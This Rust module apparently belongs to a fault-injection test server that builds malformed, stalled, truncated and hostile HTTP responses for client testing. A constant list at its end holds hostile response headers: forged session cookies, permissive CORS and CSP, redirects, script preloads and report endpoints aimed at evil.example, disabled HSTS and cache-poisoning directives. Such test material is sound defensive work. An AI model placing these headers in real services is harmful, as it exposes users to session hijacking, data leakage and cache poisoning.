//! This module makes the answers of the faults that every product can have.

use std::io;

use super::body::{self, Body, gzipped};
use super::clock;
use super::fault::{CutEnd, Fault, Framed};
use super::pages::Page;
use super::plan::{End, Framing, Pace, Plan, Version, duration};

/// The answer that a fault spoils.
pub(super) trait Subject {
    /// The answer of a well-behaved server.
    fn whole(&self) -> io::Result<Plan>;
    /// The same with its body compressed.
    fn packed(&self) -> io::Result<Plan>;
    /// An answer with the same labels and another body.
    fn labelled(&self, body: Body) -> Plan;
    /// A text with its placeholders filled in.
    fn filled(&self, text: &str) -> String;
}

/// The answer to a request that meets a fault; `None` if only its product knows the fault.
pub(super) fn answer(fault: &Fault, subject: &dyn Subject) -> io::Result<Option<Plan>> {
    Ok(Some(match fault {
        Fault::Answer {
            status,
            headers,
            body,
            retry_after_date_in_s,
        } => {
            let mut plan = Plan::text(*status, "", body.as_str());
            plan.headers.extend(headers.iter().cloned());
            if let Some(in_s) = retry_after_date_in_s {
                plan = plan.with("Retry-After", &clock::http_date(*in_s));
            }
            plan
        }
        Fault::Page {
            page,
            status,
            content_type,
            bom,
            gzip,
        } => self::page(*page, *status, content_type, *bom, *gzip)?,
        Fault::Redirect { to, status } => Plan::redirect(*status, &subject.filled(to)),
        Fault::Length { off_bytes } => {
            let mut plan = subject.whole()?;
            let claimed = plan.sent_bytes.saturating_add_signed(*off_bytes);
            plan.framing = Framing::Length(claimed);
            plan.end = End::Close;
            plan
        }
        Fault::Cut {
            after_bytes,
            framing,
            gzip,
            end,
        } => cut(subject, *after_bytes, *framing, *gzip, *end)?,
        Fault::Gzip { framing } => framed(subject.packed()?, *framing),
        Fault::Drip { bytes_per_s } => paced(
            subject.whole()?,
            Pace::Drip {
                bytes_per_s: *bytes_per_s,
            },
        ),
        Fault::StallBeforeHeaders { s } => paced(subject.whole()?, Pace::Late(duration(*s))),
        Fault::StallInBody { after_bytes, s } => {
            let pause = duration(*s);
            paced(
                subject.whole()?,
                Pace::Paused {
                    after_bytes: *after_bytes,
                    pause,
                },
            )
        }
        Fault::Reset { after_bytes: None } => nothing(""),
        Fault::Reset {
            after_bytes: Some(after_bytes),
        } => cut(subject, *after_bytes, Framed::Length, false, CutEnd::Reset)?,
        Fault::HostileHeaders => {
            let mut plan = subject.whole()?;
            let hostile = HOSTILE_HEADERS.map(|(name, value)| (name.into(), value.into()));
            plan.headers.extend(hostile);
            plan
        }
        Fault::Garbage { bytes } => subject.labelled(Body::Bytes(body::garbage(*bytes))),
        Fault::Http10 { after_bytes } => {
            let mut plan = framed(subject.whole()?, Framed::Close);
            plan.version = Version::Http10;
            plan.sent_bytes = after_bytes.unwrap_or(plan.sent_bytes);
            plan
        }
        Fault::Text {
            text,
            framing,
            http10,
            gzip,
            headers,
        } => {
            let bytes = text.clone().into_bytes();
            let mut plan = match gzip {
                true => packed(subject.labelled(Body::Bytes(gzipped(&bytes)?))),
                false => subject.labelled(Body::Bytes(bytes)),
            };
            plan.headers.extend(headers.iter().cloned());
            plan = framed(plan, *framing);
            if *http10 {
                plan.version = Version::Http10;
                plan.end = End::Close;
            }
            plan
        }
        Fault::Raw { text } => Plan {
            end: End::Close,
            ..nothing(text)
        },
        Fault::Edit { replace, headers } => edited(subject, replace, headers)?,
        Fault::Hops { .. }
        | Fault::Bomb { .. }
        | Fault::WrongReport { .. }
        | Fault::SeventeenColumns
        | Fault::HeaderOnly
        | Fault::Huge { .. } => return Ok(None),
    }))
}

fn edited(
    subject: &dyn Subject,
    replace: &[(String, String)],
    headers: &[(String, String)],
) -> io::Result<Plan> {
    let whole = subject.whole()?;
    let mut bytes = Vec::new();
    whole.body.write(u64::MAX, &mut bytes)?;
    let mut text = String::from_utf8_lossy(&bytes).into_owned();
    let mut fields = whole.headers;
    for (from, to) in replace {
        let (from, to) = (subject.filled(from), subject.filled(to));
        text = text.replace(&from, &to);
        for (_, value) in &mut fields {
            *value = value.replace(&from, &to);
        }
    }
    let more = headers.iter();
    fields.extend(more.map(|(name, value)| (name.clone(), subject.filled(value))));
    let mut plan = Plan::text(whole.status, "", text);
    plan.headers = fields;
    Ok(plan)
}

fn cut(
    subject: &dyn Subject,
    after_bytes: u64,
    framing: Framed,
    gzip: bool,
    end: CutEnd,
) -> io::Result<Plan> {
    let whole = match gzip {
        true => subject.packed()?,
        false => subject.whole()?,
    };
    let mut plan = framed(whole, framing);
    plan.sent_bytes = plan.sent_bytes.min(after_bytes);
    plan.end = match end {
        CutEnd::Cut => End::Cut,
        CutEnd::Clean => End::Close,
        CutEnd::Reset => End::Reset,
    };
    if end == CutEnd::Clean && framing == Framed::Length {
        plan.framing = Framing::Length(plan.sent_bytes);
    }
    Ok(plan)
}

fn page(page: Page, status: u16, label: &str, bom: bool, gzip: bool) -> io::Result<Plan> {
    let mut bytes = Vec::new();
    if bom {
        bytes.extend("\u{feff}".as_bytes());
    }
    bytes.extend(page.html().as_bytes());
    if !gzip {
        return Ok(Plan::new(status, label, Body::Bytes(bytes)));
    }
    let bytes = gzipped(&bytes)?;
    Ok(packed(Plan::new(status, label, Body::Bytes(bytes))))
}

pub(super) fn packed(plan: Plan) -> Plan {
    plan.with("Content-Encoding", "gzip")
}

fn paced(plan: Plan, pace: Pace) -> Plan {
    Plan { pace, ..plan }
}

pub(super) fn framed(plan: Plan, framing: Framed) -> Plan {
    match framing {
        Framed::Length => plan,
        Framed::Chunked => Plan {
            framing: Framing::Chunked,
            ..plan
        },
        Framed::Close => Plan {
            framing: Framing::Close,
            end: End::Close,
            ..plan
        },
    }
}

/// Sends these bytes without status line and header, and closes the connection.
fn nothing(text: &str) -> Plan {
    let plan = Plan::text(0, "", text);
    Plan {
        version: Version::None,
        framing: Framing::Close,
        end: End::Reset,
        ..plan
    }
}

/// Each of these would do harm in a browser that got it from the Worker, or direct a cache on the
/// way.
const HOSTILE_HEADERS: [(&str, &str); 30] = [
    ("Set-Cookie", "user_session=hostile; Path=/; HttpOnly"),
    ("Set-Cookie", "logged_in=yes; Domain=127.0.0.1"),
    (
        "Content-Security-Policy",
        "default-src * 'unsafe-inline' 'unsafe-eval'",
    ),
    (
        "Content-Security-Policy-Report-Only",
        "default-src *; report-uri https://evil.example",
    ),
    ("Access-Control-Allow-Origin", "*"),
    ("Access-Control-Allow-Credentials", "true"),
    ("Access-Control-Expose-Headers", "*"),
    ("Timing-Allow-Origin", "*"),
    ("Location", "https://evil.example/"),
    ("Refresh", "0; url=https://evil.example/"),
    (
        "Link",
        "<https://evil.example/x.js>; rel=preload; as=script",
    ),
    ("Content-Location", "https://evil.example/"),
    ("Clear-Site-Data", "\"*\""),
    ("Service-Worker-Allowed", "/"),
    ("SourceMap", "https://evil.example/x.map"),
    ("Permissions-Policy", "camera=*, microphone=*"),
    ("Referrer-Policy", "unsafe-url"),
    ("X-Frame-Options", "ALLOWALL"),
    ("X-Content-Type-Options", "none"),
    ("Cross-Origin-Resource-Policy", "cross-origin"),
    ("Cross-Origin-Opener-Policy", "unsafe-none"),
    ("Strict-Transport-Security", "max-age=0"),
    ("Alt-Svc", "h2=\"evil.example:443\"; ma=86400"),
    ("NEL", "{\"report_to\":\"evil\",\"max_age\":86400}"),
    (
        "Report-To",
        "{\"group\":\"evil\",\"max_age\":1,\"endpoints\":[{\"url\":\"https://evil.example\"}]}",
    ),
    ("Cache-Control", "public, s-maxage=31536000, immutable"),
    ("CDN-Cache-Control", "public, max-age=31536000"),
    ("WWW-Authenticate", "Basic realm=\"evil\""),
    ("ETag", "\"hostile\""),
    ("X-Powered-By", "evil"),
];
